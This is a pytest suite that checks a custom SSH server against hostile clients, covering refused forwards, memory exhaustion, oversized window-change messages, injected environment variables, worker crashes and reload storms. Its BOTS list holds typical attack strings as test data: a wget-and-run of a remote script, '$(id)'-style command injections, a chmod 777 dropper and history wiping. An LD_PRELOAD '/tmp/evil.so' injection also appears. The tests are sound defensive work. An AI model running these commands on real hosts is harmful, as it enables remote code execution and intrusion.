"""Clients that mean it ill, each beside a polite visitor."""

import contextlib
import os
import pathlib
import re
import signal
import time

import paramiko
import pytest

from processes import eventually
from server import BIN

SANITIZED = b"__asan_init" in (BIN / "resume-sshd").read_bytes()

# As bots send them, more often than not.
BOTS = ["uname -a", "cat /proc/cpuinfo | grep name", "/ip cloud print",
        "echo -e '\\x41' > /tmp/.x; chmod 777 /tmp/.x", "scp -t /tmp/x",
        "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; sh a.sh",
        "export HISTFILE=/dev/null; nproc", "$(id)", "`id`", "text; id"]
EXTREMES = [0, 1, 32767, 32768, 65535, 2**31, 2**32 - 1]


def polite_visit(server, seconds=2):
    begin = time.monotonic()
    result = server.ask("text", options=("-b", "127.0.0.2"))
    assert result.returncode == 0, result.stderr
    assert time.monotonic() - begin < seconds


def admitted(server):
    link = server.connect()
    link.auth_none("visitor")
    return link


def own_memory(server):
    """What our processes have for themselves alone, in kB."""
    texts = (pathlib.Path(f"/proc/{pid}/smaps_rollup").read_text()
             for pid in server.processes("resume-sshd"))
    return sum(int(size) for text in texts
               for size in re.findall(r"Private_\w+: +(\d+)", text))


@pytest.mark.parametrize("kind", ["direct-tcpip", "forwarded-tcpip", "x11",
                                  "auth-agent@openssh.com"])
def test_forwards_are_refused_and_cut_off(server, kind):
    link = admitted(server)
    tried = 0
    begin = time.monotonic()
    while link.is_active() and time.monotonic() < begin + 10:
        with pytest.raises((paramiko.SSHException, EOFError)):
            link.open_channel(kind, ("127.0.0.1", 25), ("127.0.0.1", 1),
                              timeout=5)
        tried += 1
    assert tried >= 32
    assert time.monotonic() - begin < 3
    server.logs("reason=refusals")
    polite_visit(server)


def test_remote_forwards_are_refused(server):
    link = admitted(server)
    for _ in range(3):
        with pytest.raises((paramiko.SSHException, EOFError)):
            link.request_port_forward("", 0)
    polite_visit(server)
    link.close()


def test_reader_that_stops_costs_no_memory(server):
    link = admitted(server)
    channel = link.open_session(window_size=4096, max_packet_size=4096)
    channel.get_pty("xterm", 300, 100)
    channel.invoke_shell()
    assert eventually(channel.recv_ready)
    before = own_memory(server)
    for _ in range(300):
        channel.send(b"1234")
    time.sleep(1)
    if not SANITIZED:
        assert own_memory(server) - before < 1024
    polite_visit(server)
    link.close()


def test_absurd_sizes_harm_nobody(server):
    link = admitted(server)
    channel = link.open_session()
    channel.get_pty("xterm", 80, 24)
    channel.invoke_shell()
    for columns in EXTREMES:
        for rows in EXTREMES:
            message = paramiko.Message()
            message.add_byte(bytes([98]))  # SSH_MSG_CHANNEL_REQUEST
            message.add_int(channel.remote_chanid)
            message.add_string("window-change")
            message.add_boolean(False)
            for number in (columns, rows, columns, rows):
                message.add_int(number)
            link._send_user_message(message)
    assert eventually(channel.recv_ready)
    time.sleep(0.5)
    assert len(server.processes("resume-ui")) == 1
    polite_visit(server)
    channel.send(b"q")
    assert channel.recv_exit_status() == 0
    link.close()


def test_environment_is_not_the_clients(server):
    link = admitted(server)
    channel = link.open_session()
    for name in "LD_PRELOAD", "PATH", "TERMINFO", "LANG", "BASH_ENV", "IFS":
        channel.set_environment_variable(name, "/tmp/evil.so")
    channel.get_pty("xterm", 80, 24)
    channel.invoke_shell()
    assert eventually(lambda: server.processes("resume-ui"))
    (pid,) = server.processes("resume-ui")
    environment = pathlib.Path(f"/proc/{pid}/environ").read_bytes()
    assert b"evil" not in environment
    polite_visit(server)
    link.close()


def test_bots_get_a_sentence_and_no_shell(server):
    for command in BOTS:
        result = server.ask(command)
        assert result.returncode not in (0, 255), command
        assert b"uid=" not in result.stdout + result.stderr
    assert not pathlib.Path("/tmp/.x").exists()


def test_stopped_processes_disturb_nobody(server):
    visit = server.visit()
    visit.shows("Northwind Payments")
    stopped = server.processes()
    for pid in stopped:
        os.kill(pid, signal.SIGSTOP)
    polite_visit(server)
    for pid in stopped:
        with contextlib.suppress(ProcessLookupError):  # it was replaced
            os.kill(pid, signal.SIGCONT)
    visit.type("2")
    visit.shows("io_uring")


def test_crashed_worker_leaves_nothing(server):
    at_rest = set(server.processes())
    visit = server.visit()
    visit.shows("Northwind Payments")
    worker = min(set(server.processes("resume-sshd")) - at_rest)
    os.kill(worker, signal.SIGKILL)
    assert eventually(lambda: set(server.processes()) <= at_rest, 5)
    server.logs("crashed .*signal=9")
    polite_visit(server)


def test_reload_storm_loses_nobody(server):
    visit = server.visit()
    visit.shows("Northwind Payments")
    for _ in range(300):
        server.signal(signal.SIGHUP)
        time.sleep(0.002)
    polite_visit(server, 10)
    visit.type("2")
    visit.shows("io_uring")
